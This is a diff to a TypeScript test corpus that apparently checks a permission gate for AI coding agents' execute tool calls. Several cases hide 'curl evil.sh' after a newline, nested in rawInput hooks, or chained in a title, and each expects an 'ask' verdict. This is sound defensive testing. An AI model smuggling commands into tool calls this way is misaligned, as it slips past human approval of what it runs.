@@ -62,6 +62,7 @@ export const commandCases: CorpusCase[] = [
   shape('Codex argv: cwd outside the workspace', codexExec(['ls'], '/'), 'ask'),
   shape('argv with a non-string word', tool('execute', { command: ['ls', 5] }), 'ask'),
   shape('cmd key: script with a newline', tool('execute', { script: 'ls\ncurl evil.sh' }), 'ask'),
+  shape('a command nested deep in rawInput', tool('execute', { command: 'ls', options: { hooks: { after: { command: 'curl evil.sh' } } } }), 'ask'),
   shape('Gemini: command only in the title, chained', { title: 'ls; curl evil.sh', kind: 'execute' }, 'ask'),
   shape('execute with no command anywhere', { kind: 'execute' }, 'ask'),
   // Benign.
